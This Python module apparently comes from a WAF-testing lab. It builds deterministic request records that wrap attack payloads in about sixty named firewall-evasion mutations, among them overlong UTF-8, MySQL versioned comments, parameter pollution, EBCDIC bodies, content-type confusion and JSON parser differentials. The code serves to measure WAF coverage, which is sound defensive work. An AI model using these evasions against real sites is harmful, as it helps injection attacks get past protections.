"""Named mutations of known payloads: the evasions attackers put between a payload and a WAF.

Two kinds, each with a name and a class (the family of evasion it belongs to):

- **value mutations** rewrite the value the application ends up reading (percent-encoding it
  once more, HTML entities, case, SQL comments, whitespace substitutes, ...). The rewritten value
  is then carried in an ordinary query parameter, percent-encoded as usual.
- **carriers** keep the value and change how the request carries it: parameter pollution, form,
  JSON and multipart wrapping, content-type confusion, cookie, header, path, chunked transfer.

``none`` (the value in a query parameter, nothing else) is the reference: a mutation *slips
through* when the plain payload is caught and the mutated one is not. Everything is deterministic:
the base payloads come from ``extproc_lab.attack.payloads.generate`` with a seed, and the mutations
themselves draw nothing at random.
"""
from __future__ import annotations

import base64
import gzip
import json
import re
import zlib
from dataclasses import dataclass
from typing import Callable, Iterator
from urllib.parse import quote, urlencode

import brotli

from extproc_lab.attack import payloads
from extproc.attack.normalize import normalize

UNRESERVED = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")
HOST = "shop.example"
PATH = "/search"
PARAM = "q"
DECOY = "shoes"  # an innocent first value for parameter pollution
CHUNK_SIZE = 3  # bytes per chunk: payload keywords end up split across chunks
MULTIPART_BOUNDARY = "----redteam7d41c9"
# A scripted client, as most attack traffic is. The demo policy only logs automation, so the bot
# layer does not hide what the attack layer does; where a policy denies it, reports say "bot".
CLIENT_HEADERS = (("user-agent", "python-requests/2.32.3"), ("accept", "*/*"), ("accept-encoding", "gzip, deflate"))


@dataclass(frozen=True)
class Mutation:
    name: str
    cls: str  # encoding | case | comment | whitespace | pollution | wrapping | content-type | placement | transport
    #         | compression | padding | parser
    description: str
    value: Callable[[str], str | None] | None = None  # rewrites the value; None: not applicable
    carry: Callable[[str], dict] | None = None  # builds the record's "request" around the value


# -- value mutations -------------------------------------------------------------------------


def _special(ch: str) -> bool:
    return ch not in UNRESERVED and ch != " "


def _each_special(fn: Callable[[str], str]) -> Callable[[str], str | None]:
    """Rewrite every special character with fn; not applicable to a value without one."""
    def apply(value: str) -> str | None:
        if not any(_special(ch) for ch in value):
            return None
        return "".join(fn(ch) if _special(ch) else ch for ch in value)
    return apply


def _pct(ch: str) -> str:
    return "".join(f"%{b:02X}" for b in ch.encode("utf-8"))


def _overlong(ch: str) -> str:
    """Two-byte overlong UTF-8 of an ASCII character ('/' -> %C0%AF); others stay percent-encoded."""
    code = ord(ch)
    return f"%{0xC0 | code >> 6:02X}%{0x80 | code & 0x3F:02X}" if code < 0x80 else _pct(ch)


def _iis(ch: str) -> str:
    return f"%u{ord(ch):04X}" if ord(ch) < 0x10000 else ch


def _fullwidth(ch: str) -> str:
    return chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch


def _when_changed(fn: Callable[[str], str]) -> Callable[[str], str | None]:
    def apply(value: str) -> str | None:
        out = fn(value)
        return out if out != value else None
    return apply


def _spaces(replacement: str) -> Callable[[str], str | None]:
    return _when_changed(lambda value: value.replace(" ", replacement))


def _alternate_case(value: str) -> str:
    return "".join(ch.upper() if i % 2 else ch.lower() for i, ch in enumerate(value))


SQL_KEYWORDS = re.compile(r"\b(select|union|from|where|and|or|order|by|sleep|insert|into|update|concat|having|limit)\b",
                          re.I)


def _versioned_comments(value: str) -> str:
    """MySQL executes /*!50000 select*/ as `select`; a naive filter sees a comment."""
    return SQL_KEYWORDS.sub(lambda m: f"/*!50000{m[0]}*/", value)


def _null_prefix(value: str) -> str:
    return "\x00" + value  # C-string filters stop reading at the first NUL


# -- carriers ---------------------------------------------------------------------------------


def _request(method: str = "GET", query: str = "", body: str = "", headers: tuple = (), path: str = PATH,
             **extra) -> dict:
    spec = {"method": method, "path": path, "query": query,
            "headers": [["host", HOST], *map(list, CLIENT_HEADERS), *map(list, headers)], "body": body}
    spec.update(extra)
    return spec


def _query(value: str) -> dict:
    return _request(query=urlencode({PARAM: value, "page": 1}))


def _form(value: str, content_type: str = "application/x-www-form-urlencoded") -> dict:
    return _request("POST", body=urlencode({"csrf": "a8f3c1", PARAM: value}), headers=(("content-type", content_type),))


def _hpp_split(value: str) -> dict:
    """Half the payload in each copy: frameworks that join duplicates (ASP.NET: 'a,b') rebuild it."""
    cut = len(value) // 2
    return _request(query=urlencode([(PARAM, value[:cut]), (PARAM, value[cut:])]))


def _hpp_last(value: str) -> dict:
    """A harmless first copy: a filter that reads the first value sees only that."""
    return _request(query=urlencode([(PARAM, DECOY), (PARAM, value)]))


def _json(value: str) -> dict:
    body = json.dumps({"data": {"attributes": {PARAM: value}}, "type": "search"})
    return _request("POST", body=body, headers=(("content-type", "application/json"),))


def _json_escaped(value: str) -> dict:
    """Every character of the string as a JSON \\u escape: any JSON parser reads the same value."""
    escaped = "".join(f"\\u{ord(ch):04x}" if ord(ch) < 0x10000 else ch for ch in value)
    body = '{"' + PARAM + '": "' + escaped + '"}'
    return _request("POST", body=body, headers=(("content-type", "application/json"),))


def _multipart(value: str, filename: bool = False) -> dict:
    if filename:
        part = (f'Content-Disposition: form-data; name="upload"; filename="{value}"\r\n'
                "Content-Type: text/plain\r\n\r\nhello\r\n")
    else:
        part = f'Content-Disposition: form-data; name="{PARAM}"\r\n\r\n{value}\r\n'
    body = f"--{MULTIPART_BOUNDARY}\r\n{part}--{MULTIPART_BOUNDARY}--\r\n"
    return _request("POST", body=body,
                    headers=(("content-type", f"multipart/form-data; boundary={MULTIPART_BOUNDARY}"),))


def _multipart_base64(value: str) -> dict:
    """The field's content in base64 with Content-Transfer-Encoding: parsers that honour it decode."""
    encoded = base64.b64encode(value.encode()).decode()
    part = (f'Content-Disposition: form-data; name="{PARAM}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            f"{encoded}\r\n")
    body = f"--{MULTIPART_BOUNDARY}\r\n{part}--{MULTIPART_BOUNDARY}--\r\n"
    return _request("POST", body=body,
                    headers=(("content-type", f"multipart/form-data; boundary={MULTIPART_BOUNDARY}"),))


def _json_as_form(value: str) -> dict:
    """A JSON body declared as a form: a WAF that trusts the header parses the wrong grammar."""
    body = json.dumps({PARAM: value})
    return _request("POST", body=body, headers=(("content-type", "application/x-www-form-urlencoded"),))


def _ibm037(value: str) -> dict:
    """A form body in EBCDIC (charset=ibm037): IIS/ASP.NET decode it, a byte-level filter sees noise."""
    body = urlencode({PARAM: value}).encode("cp037")
    return {**_request("POST", headers=(("content-type", "application/x-www-form-urlencoded; charset=ibm037"),)),
            "body": "", "body_b64": base64.b64encode(body).decode()}


def _cookie(value: str) -> dict:
    return _request(headers=(("cookie", f"sid=9f2c7d1e; {PARAM}={quote(value, safe='')}"),))


def _header(value: str) -> dict:
    return _request(headers=(("x-client-note", value.replace("\r", " ").replace("\n", " ")),))


def _path(value: str) -> dict:
    return _request(path=f"{PATH}/{quote(value, safe='')}")


def _chunked(value: str) -> dict:
    """The form body in 3-byte chunks. Envoy reassembles it before the sidecar sees it, so this
    only differs from `form` when replayed through Envoy."""
    return {**_form(value), "chunk_size": CHUNK_SIZE}


def _compressed(value: str, coding: str, compress: Callable[[bytes], bytes]) -> dict:
    """The JSON body compressed: the application's server undoes the coding before it parses."""
    body = compress(json.dumps({PARAM: value}).encode())
    return {**_request("POST", headers=(("content-type", "application/json"), ("content-encoding", coding))),
            "body": "", "body_b64": base64.b64encode(body).decode()}


def _json_labelled(value: str, content_type: str) -> dict:
    """A JSON body under another label: frameworks that parse JSON whatever the type read it."""
    return _request("POST", body=json.dumps({PARAM: value}), headers=(("content-type", content_type),))


def _ndjson(value: str) -> dict:
    lines = [json.dumps({"id": 1, PARAM: DECOY}), json.dumps({"id": 2, PARAM: value})]
    return _request("POST", body="\n".join(lines) + "\n", headers=(("content-type", "application/x-ndjson"),))


def _padded(value: str, count: int) -> dict:
    """Harmless parameters first: a scanner that stops after N values never reaches the payload."""
    padding = [(f"f{i}", f"a {i}") for i in range(count)]
    return _request(query=urlencode([*padding, (PARAM, value)]))


def _referer(value: str) -> dict:
    return _request(headers=(("referer", f"https://{HOST}/list?{urlencode({PARAM: value})}"),))


def _protocol_header(value: str) -> dict:
    """A header with a protocol grammar (a language tag list): applications still read it."""
    return _request(headers=(("accept-language", value.replace("\r", " ").replace("\n", " ")),))


def _path_parameter(value: str) -> dict:
    """The value as a ';' path parameter, which Tomcat and Spring hand to the application."""
    return _request(path=f"{PATH};{PARAM}={quote(value, safe='')}")


# mtime=0: gzip stamps the time otherwise, and records must be the same on every run
COMPRESSED = (("gzip", lambda data: gzip.compress(data, mtime=0)), ("deflate", zlib.compress), ("br", brotli.compress))
RELABELLED = (("text-json", "text/json"), ("x-json", "application/x-json"), ("octet-stream", "application/octet-stream"),
              ("text-csv", "text/csv"))

# -- JSON documents that parsers read differently (issue 18: parse as the upstream parses) -------


def _json_body(body: bytes) -> dict:
    return {**_request("POST", headers=(("content-type", "application/json"),)),
            "body": "", "body_b64": base64.b64encode(body).decode()}


def _json_bom(value: str) -> dict:
    """A UTF-8 byte order mark before the document: Python's json skips it, strict parsers refuse."""
    return _json_body(b"\xef\xbb\xbf" + json.dumps({PARAM: value}).encode())


def _json_first_of_two(value: str) -> dict:
    """The value in a first document, a harmless second after it: Go's json.Decoder reads the first
    and ignores the rest, a strict parser refuses the whole body."""
    return _json_body(json.dumps({PARAM: value}).encode() + b"\n" + json.dumps({PARAM: DECOY}).encode())


def _json_trailing_garbage(value: str) -> dict:
    """Bytes after the document that json.Decoder never reads and a strict parser refuses."""
    return _json_body(json.dumps({PARAM: value}).encode() + b" //")


def _json_duplicate_first(value: str) -> dict:
    """The value in the first of two equal names: cJSON and simdjson keep the first, most the last."""
    return _json_body(b'{"%s": %s, "%s": %s}' % (PARAM.encode(), json.dumps(value).encode(), PARAM.encode(),
                                                 json.dumps(DECOY).encode()))


def _json_utf16(value: str) -> dict:
    """The document in UTF-16 with its BOM: Python's json.loads of bytes reads it."""
    return _json_body(json.dumps({PARAM: value}).encode("utf-16"))


def _base64(value: str, urlsafe: bool = False) -> str:
    raw = value.encode("utf-8", "surrogateescape")
    return base64.urlsafe_b64encode(raw).decode().rstrip("=") if urlsafe else base64.b64encode(raw).decode()


def _base64_path(value: str) -> dict:
    """The value URL-safe base64-encoded as a path segment: routes like /files/{b64} decode it."""
    return _path_segment(_base64(value, urlsafe=True))


def _path_segment(segment: str) -> dict:
    return _request(path=f"{PATH}/{segment}")


# What applications decode on purpose (a token, a state parameter, a file id): the payload
# travels as data a WAF that scores only what it sees never reads.
APPLICATION_ENCODINGS: tuple[Mutation, ...] = (
    Mutation("base64", "app-encoding", "the value base64-encoded", value=_base64),
    Mutation("base64-urlsafe", "app-encoding", "the value URL-safe base64, unpadded",
             value=lambda value: _base64(value, urlsafe=True)),
    Mutation("base64-twice", "app-encoding", "the value base64-encoded twice", value=lambda value: _base64(_base64(value))),
    Mutation("hex", "app-encoding", "the value as hex digits", value=lambda value: value.encode("utf-8", "surrogateescape").hex()),
    Mutation("base64-form", "app-encoding", "a urlencoded form field holding the value in base64",
             carry=lambda value: _form(_base64(value))),
    Mutation("base64-multipart", "app-encoding", "a multipart field holding the value in base64 (no transfer encoding)",
             carry=lambda value: _multipart(_base64(value))),
    Mutation("base64-path", "app-encoding", "a path segment holding the value in URL-safe base64", carry=_base64_path),
)

PARSER_MUTATIONS: tuple[Mutation, ...] = (
    Mutation("json-bom", "parser", "a JSON body behind a UTF-8 byte order mark", carry=_json_bom),
    Mutation("json-first-of-two", "parser", "a JSON body followed by a second, harmless document",
             carry=_json_first_of_two),
    Mutation("json-trailing-garbage", "parser", "bytes after the JSON document", carry=_json_trailing_garbage),
    Mutation("json-duplicate-first", "parser", "the value in the first of two equal JSON names, a harmless last",
             carry=_json_duplicate_first),
    Mutation("json-utf16", "parser", "a JSON body in UTF-16 with a byte order mark", carry=_json_utf16),
)

MUTATIONS: tuple[Mutation, ...] = (
    Mutation("none", "reference", "the value in a query parameter", carry=_query),
    Mutation("url-encode", "encoding", "special characters percent-encoded once more", value=_each_special(_pct)),
    Mutation("double-url-encode", "encoding", "special characters percent-encoded twice more",
             value=_each_special(lambda ch: _pct(_pct(ch)))),
    Mutation("iis-unicode", "encoding", "special characters as IIS %uXXXX", value=_each_special(_iis)),
    Mutation("overlong-utf8", "encoding", "special characters as two-byte overlong UTF-8 (%C0%AF for /)",
             value=_each_special(_overlong)),
    Mutation("html-entities", "encoding", "special characters as decimal HTML references (&#39;)",
             value=_each_special(lambda ch: f"&#{ord(ch)};")),
    Mutation("hex-entities", "encoding", "special characters as hex HTML references (&#x27;)",
             value=_each_special(lambda ch: f"&#x{ord(ch):x};")),
    Mutation("unicode-escape", "encoding", "special characters as \\u00XX escapes",
             value=_each_special(lambda ch: f"\\u{ord(ch):04x}")),
    Mutation("fullwidth", "encoding", "special characters as fullwidth forms (U+FF01..)", value=_each_special(_fullwidth)),
    Mutation("upper-case", "case", "the whole value in upper case", value=_when_changed(str.upper)),
    Mutation("alternating-case", "case", "letters in alternating case", value=_when_changed(_alternate_case)),
    Mutation("sql-comment-spaces", "comment", "spaces as /**/", value=_spaces("/**/")),
    Mutation("versioned-comments", "comment", "SQL keywords inside MySQL /*!50000 */ comments",
             value=_when_changed(_versioned_comments)),
    Mutation("tab-spaces", "whitespace", "spaces as tabs", value=_spaces("\t")),
    Mutation("newline-spaces", "whitespace", "spaces as line feeds", value=_spaces("\n")),
    Mutation("vertical-tab-spaces", "whitespace", "spaces as vertical tabs", value=_spaces("\x0b")),
    Mutation("null-prefix", "encoding", "a NUL byte before the value", value=_null_prefix),
    Mutation("hpp-split", "pollution", "the value split over two parameters of the same name", carry=_hpp_split),
    Mutation("hpp-last", "pollution", "a harmless first parameter, the value in a second of the same name",
             carry=_hpp_last),
    Mutation("form", "placement", "a urlencoded form field", carry=_form),
    Mutation("cookie", "placement", "a cookie", carry=_cookie),
    Mutation("header", "placement", "a custom header", carry=_header),
    Mutation("path", "placement", "a path segment", carry=_path),
    Mutation("json-nested", "wrapping", "a string nested in a JSON body", carry=_json),
    Mutation("json-unicode-escaped", "wrapping", "a JSON string written entirely in \\u escapes", carry=_json_escaped),
    Mutation("multipart-field", "wrapping", "a multipart/form-data field", carry=_multipart),
    Mutation("multipart-filename", "wrapping", "the filename of a multipart file part",
             carry=lambda value: _multipart(value, filename=True)),
    Mutation("multipart-base64", "wrapping", "a multipart field in base64 (Content-Transfer-Encoding)",
             carry=_multipart_base64),
    Mutation("form-as-text-plain", "content-type", "a form body declared text/plain",
             carry=lambda value: _form(value, "text/plain")),
    Mutation("json-declared-as-form", "content-type", "a JSON body declared as a urlencoded form", carry=_json_as_form),
    Mutation("charset-ibm037", "content-type", "a form body in EBCDIC, charset=ibm037", carry=_ibm037),
    Mutation("chunked", "transport", "the form body in 3-byte chunks (differs from form only through Envoy)",
             carry=_chunked),
    *(Mutation(f"json-{coding}", "compression", f"a JSON body with content-encoding: {coding}",
               carry=lambda value, coding=coding, fn=fn: _compressed(value, coding, fn)) for coding, fn in COMPRESSED),
    *(Mutation(f"json-as-{name}", "content-type", f"a JSON body declared {label}",
               carry=lambda value, label=label: _json_labelled(value, label)) for name, label in RELABELLED),
    Mutation("ndjson", "content-type", "the value in the second document of a JSON Lines body", carry=_ndjson),
    Mutation("padding-300", "padding", "300 harmless parameters before the value",
             carry=lambda value: _padded(value, 300)),
    Mutation("padding-5000", "padding", "5,000 harmless parameters before the value (past max_args)",
             carry=lambda value: _padded(value, 5000)),
    Mutation("referer-query", "placement", "a query argument of the Referer URL", carry=_referer),
    Mutation("protocol-header", "placement", "an Accept-Language header", carry=_protocol_header),
    Mutation("path-parameter", "placement", "a ';' parameter of the path", carry=_path_parameter),
)
MUTATIONS += PARSER_MUTATIONS + APPLICATION_ENCODINGS
BY_NAME = {mutation.name: mutation for mutation in MUTATIONS}


def mutated_request(value: str, mutation: Mutation) -> dict | None:
    """The record's request for this payload under this mutation; None when it does not apply."""
    if mutation.carry is not None:
        return mutation.carry(value)
    changed = mutation.value(value)
    return None if changed is None else _query(changed)


def base_payloads(family: str, n: int, seed: int) -> list[str]:
    """n plain payloads of a family: generated ones that needed no decoding, so that the encodings
    here are the only ones on them. Single-line too, so that every carrier can hold them."""
    plain, drawn = [], payloads.generate(family, n * 20, seed)
    for value in drawn:
        if normalize(value)[1] == 0 and "\n" not in value and "\r" not in value and len(value) <= 400:
            plain.append(value)
            if len(plain) == n:
                break
    return plain


def mutation_records(families: tuple[str, ...], per_family: int, seed: int,
                     names: tuple[str, ...] | None = None) -> Iterator[dict]:
    """Request records: every base payload of every family under every (named) mutation."""
    chosen = [BY_NAME[name] for name in names] if names else list(MUTATIONS)
    for family in families:
        for index, value in enumerate(base_payloads(family, per_family, seed)):
            for mutation in chosen:
                spec = mutated_request(value, mutation)
                if spec is not None:
                    yield {"id": f"{family}-{index}-{mutation.name}", "label": "attack", "family": family,
                           "mutation": mutation.name, "mutation_class": mutation.cls, "base": f"{family}-{index}",
                           "request": spec}
